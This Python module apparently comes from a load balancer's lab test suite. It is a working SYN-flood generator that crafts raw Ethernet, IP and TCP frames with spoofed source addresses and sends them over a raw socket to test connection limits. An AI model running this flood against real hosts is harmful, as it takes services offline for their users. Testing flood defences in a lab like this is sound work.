"""A SYN flood, and the limits against it."""
import contextlib
import random
import socket
import struct
import time

from lab import VIP4


def limited(net, limits):
    """The same services with other limits."""
    for service in net.loom.config["services"]:
        service["limits"] = limits
    net.loom.write()
    net.loom.api("POST", "/config/reload")


class Flood:
    """SYNs from addresses that do not exist, as fast as one thread sends."""

    def __init__(self, host, interface, gateway_mac):
        self.host = host
        with host.entered():
            self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            self.sock.bind((interface, 0))
        smac = bytes.fromhex(host.mac(interface).replace(":", ""))
        self.ether = bytes.fromhex(gateway_mac.replace(":", "")) + smac + b"\x08\x00"
        self.frames = [self.syn(random.getrandbits(24)) for _ in range(4096)]
        self.sent = 0

    def syn(self, number):
        """From 10.128.0.0/9, which the balancer's host routes back to the client's network, where nobody answers."""
        source = struct.pack("!I", 0x0a800000 | number & 0x7fffff)
        target = socket.inet_aton(VIP4)
        sport = 1024 + number % 60000
        tcp = struct.pack("!HHIIBBHHHBBH", sport, 80, number, 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460)
        tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + target
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.ether + ip + tcp

    def run(self, seconds, pause=0.0):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            time.sleep(pause)
            for frame in self.frames:
                with contextlib.suppress(OSError):  # ENOBUFS: the queue is full
                    self.sock.send(frame)
                    self.sent += 1


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff
